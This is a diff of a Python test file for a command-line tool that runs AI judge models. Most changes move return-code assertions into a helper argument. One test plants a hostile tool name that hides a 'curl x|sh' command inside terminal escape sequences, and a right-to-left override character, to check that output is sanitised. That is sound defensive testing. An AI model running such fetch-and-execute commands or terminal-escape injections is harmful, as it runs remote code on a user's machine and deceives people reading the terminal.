@@ -37,8 +37,7 @@ def judged(tmp_path: Path, endpoint: EndpointServer) -> Path:
     endpoint.script = searching
     write_rows(tmp_path / "rows.jsonl", [ROW])
     words = (*through(endpoint), "--order", "both", "--output", "out.jsonl")
-    run = judge(tmp_path, "rows.jsonl", "--tool", COMMAND, "--allow-tool", "search", *words)
-    assert run.returncode == 0, run.stderr
+    judge(tmp_path, "rows.jsonl", "--tool", COMMAND, "--allow-tool", "search", *words, code=0)
     assert not servers()
     return tmp_path
 
@@ -84,8 +83,7 @@ def test_a_judged_row_is_not_judged_again_and_other_tools_are_other_settings(
     words = ("rows.jsonl", *through(endpoint), "--order", "both", "--output", "out.jsonl", "--tool", COMMAND)
     assert judge(judged, *words, "--allow-tool", "search").returncode == 0
     assert len(endpoint.asked) == before
-    run = judge(judged, *words)
-    assert run.returncode == 2
+    run = judge(judged, *words, code=2)
     assert "allow_tool" in run.stderr
 
 
@@ -109,14 +107,14 @@ def test_nothing_but_the_judges_own_text_becomes_a_verdict(
 
     endpoint.script = script
     write_rows(tmp_path / "rows.jsonl", [ROW, {**ROW, "id": "p", "prompt": "Is 51 prime?"}])
-    run = judge(
+    judge(
         tmp_path,
         "rows.jsonl",
         *through(endpoint),
         *("--tool", COMMAND, "--tool-seconds", "1", "--tier", tier, "--order", "given"),
         *("--output", "out.jsonl"),
+        code=0,
     )
-    assert run.returncode == 0, run.stderr
     rows = {row["id"]: row for row in results(tmp_path / "out.jsonl")}
     assert (rows["c"]["verdict"], rows["c"]["stop"]) == (None, "malformed")
     assert (rows["p"]["verdict"], rows["p"]["stop"]) == ("A", "verdict")
@@ -141,8 +139,7 @@ def test_a_tool_that_cannot_be_opened_is_one_line(tmp_path: Path, endpoint: Endp
         (("--tool", COMMAND, "--no-tools"), "--tool needs a judge with tools"),
         (("--tool", COMMAND, "--format", "j1-pav"), "the format j1-pav offers its judge no further tools"),
     ):
-        run = judge(tmp_path, "rows.jsonl", *through(endpoint), *words)
-        assert run.returncode == 2, run.stderr
+        run = judge(tmp_path, "rows.jsonl", *through(endpoint), *words, code=2)
         (line,) = run.stderr.splitlines()
         assert reason in line
     assert not endpoint.asked
@@ -170,8 +167,7 @@ def test_a_judge_runs_tests_which_are_recorded_and_run_again(
     endpoint.script = script
     write_rows(tmp_path / "rows.jsonl", [CODE])
     words = (*through(endpoint), "--order", "both", "--output", "out.jsonl")
-    run = judge(tmp_path, "rows.jsonl", "--tool", "tests", *words)
-    assert run.returncode == 0, run.stderr
+    judge(tmp_path, "rows.jsonl", "--tool", "tests", *words, code=0)
     (row,) = results(tmp_path / "out.jsonl")
     assert (row["verdict"], row["correct"], row["programs"], row["programs_failed"]) == ("B", 1.0, 2, 0)
     assert "\nrun_tests: " in endpoint.asked[0].body["messages"][0]["content"]
@@ -230,16 +226,14 @@ def test_a_judge_that_was_trained_with_tools_asks_for_them(
     (tmp_path / "note" / "tirjudge.json").write_text(json.dumps({"tools": ["tests", "mcp:my search"]}))
     write_rows(tmp_path / "rows.jsonl", [ROW])
     words = ("rows.jsonl", *through(endpoint), "--note-of", "./note")
-    run = judge(tmp_path, *words, "--output", "a.jsonl")
-    assert run.returncode == 0, run.stderr
+    run = judge(tmp_path, *words, "--output", "a.jsonl", code=0)
     assert (
         'm says that it was trained with further tools, see --tool: "tests", "mcp:my search"' in caplog.text
     )
     caplog.clear()
     hostile = {"tools": ["mcp:\x1b]0;sh -c 'curl x|sh'\x07"], "note": "judges\x1b[2J\nwell\u202e"}
     (tmp_path / "note" / "tirjudge.json").write_text(json.dumps(hostile))
-    run = judge(tmp_path, *words, "--output", "hostile.jsonl")
-    assert run.returncode == 0, run.stderr
+    run = judge(tmp_path, *words, "--output", "hostile.jsonl", code=0)
     shown = f"{caplog.text}{run.stdout}{run.stderr}"
     assert "\x1b" not in shown
     assert "\u202e" not in shown
@@ -247,6 +241,5 @@ def test_a_judge_that_was_trained_with_tools_asks_for_them(
     assert r"judges\x1b[2J\nwell\u202e" in shown
     caplog.clear()
     (tmp_path / "note" / "tirjudge.json").write_text(json.dumps({"tools": ["tests"]}))
-    run = judge(tmp_path, *words, "--output", "b.jsonl", "--tool", "tests")
-    assert run.returncode == 0, run.stderr
+    run = judge(tmp_path, *words, "--output", "b.jsonl", "--tool", "tests", code=0)
     assert "further tools" not in caplog.text
